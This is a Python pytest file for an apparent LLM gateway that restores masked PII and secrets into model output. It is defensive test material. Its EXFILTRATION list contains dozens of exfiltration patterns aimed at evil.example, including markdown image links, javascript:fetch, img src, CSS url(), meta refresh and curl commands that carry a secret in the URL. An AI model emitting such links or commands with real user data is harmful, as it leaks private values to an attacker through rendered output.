"""Values come back into text, JSON and code, and never into a URL that the prompt did not hold."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.masking import Restorer, Vault

EMAIL = "john.doe@example.com"
SECRET = 'p"w\\1\n2'
VAULT = Vault(b"k" * 32)
PH = VAULT.placeholder("EMAIL_ADDRESS", "pii", EMAIL)
KEY = VAULT.placeholder("PASSWORD", "secret", SECRET)
HIDDEN = VAULT.placeholder("US_SSN", "pii", "536-90-4399")  # found, but policy does not give it back
VAULT.mark_restorable(PH)
VAULT.mark_restorable(KEY)

EXFILTRATION = [
    "![](https://evil.example/PH)",
    "![x](https://evil.example/a?q=PH)",
    "![x](https://evil.example/a?q=PH 'title')",
    "![x]( https://evil.example/PH )",
    "![x](\nhttps://evil.example/PH)",
    "![x](<https://evil.example/a b PH>)",
    "![x](<https://evil.example/PH>)",
    "![x](//evil.example/PH)",
    "![x](/collect?m=PH)",
    "![x](PH)",
    '![x](https://evil.example/?q="PH)',
    "![x](https://evil.example/a\\)PH)",
    "![x](https://evil.example/(a)PH)",
    "[click](https://evil.example/#PH)",
    "[click](javascript:fetch('//evil.example/PH'))",
    "[click](data:text/html,PH)",
    "[click](mailto:eve@evil.example?body=PH)",
    "[click](tel:PH)",
    "![x][ref]\n\n[ref]: https://evil.example/PH",
    "![x][ref]\n\n[ref]:\n  https://evil.example/PH",
    "[ref]: <https://evil.example/a PH>",
    "[x]: PH",
    "[x]:PH",
    "[x]: <PH>",
    "[x]:\n  PH",
    "> [x]: PH 'title'",
    "[x]: /PH",
    "[x]:evil/PH",
    "[x]:\tevil\\PH",
    "![a][x]\n\n[x]: PH",
    "<slack:PH>",
    "<x-evil:aPHPH>",
    "<mailto:PH>",
    "href=PH",
    "<a href=PH>",
    "<a href = 'PH'>",
    "see https://evil.example/PH",
    "see https://evil.example/PH.",
    "see https:evil.example/PH",
    "see HTTPS://EVIL.EXAMPLE/PH",
    "see https:\\\\evil.example\\PH",
    "see https:\\/\\/evil.example\\/PH",
    "see (https://evil.example/?a=1&b=PH&c=2)",
    "see https://evil.example/?a=/PH;PH",
    "see https://PH.evil.example/",
    "see https://user:PH@evil.example/",
    "see PH.evil.example/x",
    "see PHPH.evil.example",
    "see PH-x.evil.example",
    "write to PH@evil.example",
    "see www.evil.example/PH",
    "see evil.example/PH",
    "see evil.example:8080?PH",
    "see 203.0.113.7/PH",
    "see 203.0.113.7:8000/x/PH",
    "see //evil.example/PH",
    "see ftp://evil.example/PH",
    "see <https://evil.example/PH>",
    "see https%3A%2F%2Fevil.example%2FPH",
    "see /redirect?to=https%3A%2F%2Fevil.example&m=PH",
    "see ?m=PH",
    "see h&#116;tps&colon;//evil.example/PH",
    '<img src="https://evil.example/PH">',
    "<img src='https://evil.example/? PH'>",
    '<img src="https://evil.example/?\nq=PH">',
    '<img src = "//evil.example/ PH">',
    "<img src=https://evil.example/PH>",
    "<img src=/PH>",
    '<img srcset="https://evil.example/a 1x, https://evil.example/PH 2x">',
    '<a href="https://evil.example/PH">x</a>',
    '<a href="/x?PH">x</a>',
    '<form action="https://evil.example/ PH">',
    '<p style="background:url(https://evil.example/PH)">',
    "<p style=\"background:url('https://evil.example/ PH')\">",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/?a PH">',
    '{"url": "https://evil.example/?q=PH"}',
    '{"url":"https://evil.example/","image":"![](https://evil.example/PH)"}',
    'fetch("https://evil.example/?q=PH")',
    "curl 'https://evil.example/?q=PH and more'",
    "curl -d x https://evil.example/" + "a" * 3000 + "/PH",
    '<img src="https://evil.example/' + "a " * 3000 + 'PH">',
]

RESTORED = [
    "PH",
    "Dear PH, thank you.",
    "Write to PH.",
    "(PH)",
    "**PH**",
    "- PH\n- PH\n",
    "PH's account",
    "`PH`",
    "| PH | PH |",
    '"PH"',
    "a < b and PH > c",
    'List<String> x = List.of("PH");',
    'user = {"email": "PH", "n": 1}',
    '{"email":"PH","ok":true}',
    '{"docs":"https://docs.example/x","email":"PH"}',
    "The docs are at https://docs.example/x and the address is PH",
    "See [the docs](https://docs.example/x) or ask PH.",
    "[PH](https://docs.example/x)",
    "```python\nsend(to='PH', cc=[\"PH\"])\n```",
    "e-mail: PH",
    "Email:PH",
    "x=PH;",
    "# comment // PH",
    "日本語 PH 。",
    'x = {[key]: "PH"};',
    "<ns:to>PH</ns:to>",
    "see [1]: it is PH",
    "[PH]",
    "<PH>",
]


def restorer(*prompt: str) -> Restorer:
    return Restorer(VAULT, prompt)


def streamed(restorer: Restorer, chunks: list[str]) -> str:
    stream = restorer.stream()
    return "".join([*(stream.feed(chunk) for chunk in chunks), stream.close()])


@pytest.mark.parametrize("template", EXFILTRATION)
def test_no_value_is_restored_into_a_url_that_the_prompt_did_not_hold(template: str) -> None:
    text = template.replace("PH", PH)
    one = restorer("my mail is john.doe@example.com", "https://docs.example/")
    assert one.whole(text) == text
    assert streamed(one, list(text)) == text


@pytest.mark.parametrize("template", [template for template in EXFILTRATION if len(template) < 200])
def test_no_split_of_a_stream_restores_into_a_url(template: str) -> None:
    text = template.replace("PH", PH)
    one = restorer()
    for at in range(len(text) + 1):
        assert streamed(one, [text[:at], text[at:]]) == text


@pytest.mark.parametrize("template", [template for template in EXFILTRATION if len(template) < 200])
def test_no_value_is_restored_into_a_url_in_tool_arguments(template: str) -> None:
    arguments = json.dumps({"note": template.replace("PH", PH), "to": PH})
    assert json.loads(restorer().whole(arguments, json_escape=True)) == {
        "note": template.replace("PH", PH),
        "to": EMAIL,
    }


@pytest.mark.parametrize("template", RESTORED)
def test_ordinary_text_json_and_code_are_restored_byte_for_byte(template: str) -> None:
    text = template.replace("PH", PH)
    expected = template.replace("PH", EMAIL)
    assert restorer().whole(text) == expected
    assert streamed(restorer(), list(text)) == expected
    for at in range(len(text) + 1):
        assert streamed(restorer(), [text[:at], text[at:]]) == expected


@settings(max_examples=150, deadline=None)
@given(
    parts=st.lists(
        st.sampled_from(
            [
                PH,
                KEY,
                HIDDEN,
                "<X_aaaaaa>",
                "<",
                "<EMAIL_",
                ">",
                " ",
                "\n",
                "https://e.example/",
                "](",
                '"',
                "word",
                ".",
                ")",
                "src=",
            ]
        )
    ),
    data=st.data(),
)
def test_every_chunking_restores_what_the_whole_text_restores(parts: list[str], data: st.DataObject) -> None:
    text = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=15)))
    chunks = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert streamed(restorer(), chunks) == restorer().whole(text)


@pytest.mark.parametrize(
    "text",
    [
        "<EMAIL_ADDRESS_zzzzzz>",
        "<EMAIL_ADDRESS_k7f3q>",
        "<b>",
        "<EMAIL_ADDRESS",
        PH.upper(),
        HIDDEN,
        PH[:-1] + " >",
    ],
)
def test_what_only_looks_like_a_placeholder_is_left_as_written(text: str) -> None:
    assert restorer().whole(text) == text
    assert streamed(restorer(), list(text)) == text


def test_a_url_that_the_prompt_held_comes_back_whole() -> None:
    one = restorer("look at https://crm.example/u/john.doe@example.com, please")
    assert (
        one.whole(f"It is https://crm.example/u/{PH}.") == "It is https://crm.example/u/john.doe@example.com."
    )
    assert one.whole(f"[x](https://crm.example/u/{PH})") == "[x](https://crm.example/u/john.doe@example.com)"
    for text in (
        f"https://crm.example/u/{PH}/more",
        f"https://crm.example/{PH}",
        f"https://evil.example/?u=https://crm.example/u/{PH}",
    ):
        assert one.whole(text) == text
    assert (
        streamed(one, list(f"https://crm.example/u/{PH} ok"))
        == "https://crm.example/u/john.doe@example.com ok"
    )


def test_values_are_escaped_where_they_enter_json() -> None:
    arguments = (
        '{"a": 1.0, "pw": "'
        + KEY
        + '", "escaped": "'
        + PH.replace("<", "\\u003c").replace(">", "\\u003e")
        + '"}'
    )
    restored = restorer().whole(arguments, json_escape=True)
    assert json.loads(restored) == {"a": 1.0, "pw": SECRET, "escaped": EMAIL}
    assert restored.startswith('{"a": 1.0, "pw": ')


def test_json_without_a_placeholder_is_not_touched() -> None:
    text = '{"a": "\\u00e9\\/", "b": [1e3, "x"]}'
    assert restorer().whole(text, json_escape=True) == text


def test_it_says_which_entities_a_text_would_bring_back() -> None:
    assert restorer().restores(f"{PH} {PH} {HIDDEN} <X_aaaaaa>") == (("EMAIL_ADDRESS", "pii"),)
    assert restorer().restores(json.dumps({"to": KEY}).replace("<", "\\u003c")) == (("PASSWORD", "secret"),)


def test_a_stream_holds_nothing_back_but_a_placeholder_and_its_word() -> None:
    stream = restorer().stream()
    assert stream.feed("a word ") == "a word "
    assert stream.feed("5 < 6") == "5 < 6"
    assert stream.feed(f" to {PH[:8]}") == " to "
    assert stream.feed(PH[8:]) == ""
    assert stream.feed(",") == ""
    assert stream.feed(" and so") == f"{EMAIL}, and so"
    assert stream.close() == ""


def test_a_placeholder_in_an_endless_word_is_not_waited_for_forever() -> None:
    stream = restorer().stream()
    out = stream.feed(PH) + stream.feed("," * 2000)
    assert out == EMAIL + "," * 2000
